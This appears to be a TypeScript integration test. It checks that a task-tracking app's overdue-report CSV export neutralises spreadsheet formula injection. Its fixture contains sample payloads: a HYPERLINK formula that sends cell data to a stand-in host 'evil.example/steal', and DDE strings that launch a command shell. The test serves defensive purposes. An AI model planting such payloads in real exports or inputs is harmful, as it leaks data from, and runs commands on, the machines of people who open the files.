import { parse } from 'csv-parse/sync';
import { startWorkflowApp, WorkflowApp } from '../support/workflow-app';

const binary = (res: { on(e: string, cb: (c?: Buffer) => void): void }, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c?: Buffer) => c && chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

/** Progress notes a unit's staff can write, each one a formula when a spreadsheet opens the raw text. */
const NOTES: [task: string, user: string, note: string][] = [
  ['1', 'lead_staff', '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'],
  ['2', 'lead_staff', "+cmd|' /C calc'!A0"],
  ['3', 'other_staff', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['4', 'resp_staff', '\t=1+1'],
];

describe('CSV exports: no formula injection', () => {
  let w: WorkflowApp;
  const as = (user: string) => ({ authorization: `Bearer ${w.tokens[user]}` });

  beforeAll(async () => {
    w = await startWorkflowApp();
    for (const [code, user, note] of NOTES) {
      const id = w.taskIds[code];
      const task = (await w.http.get(`/tasks/${id}`).set(as(user)).expect(200)).body;
      await w.http.post(`/tasks/${id}/transitions`).set(as(user)).send({ to: 'acknowledged', version: task.version }).expect(200);
      await w.http.post(`/tasks/${id}/progress`).set(as(user)).send({ percent: 10, note }).expect(201);
      // overdue, so that the item and its latest note are in the overdue report
      const { version } = (await w.http.get(`/tasks/${id}`).set(as('admin')).expect(200)).body;
      await w.http.patch(`/tasks/${id}`).set(as('admin')).send({ dueAt: '2020-01-02T10:00:00.000Z', version }).expect(200);
    }
  });
  afterAll(() => w.close());

  it('writes every cell that begins with = + - @ tab or CR as text, and keeps numbers as numbers', async () => {
    const res = await w.http.get('/reports/overdue?format=csv&limit=200').set(as('sup')).buffer(true).parse(binary).expect(200);
    const text = (res.body as Buffer).toString('utf8').replace(/^\uFEFF/, '');
    const [header, ...rows] = parse(text, { relax_column_count: false }) as string[][];
    const noteColumn = header.indexOf('最近进展');
    const daysColumn = header.indexOf('逾期天数');
    expect(rows).toHaveLength(NOTES.length);
    const notes = rows.map((r) => r[noteColumn]).sort();
    expect(notes).toEqual(NOTES.map(([, , note]) => `'${note}`).sort());
    for (const row of rows) {
      expect(row.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
      expect(Number(row[daysColumn])).toBeGreaterThan(0);
    }
  });
});
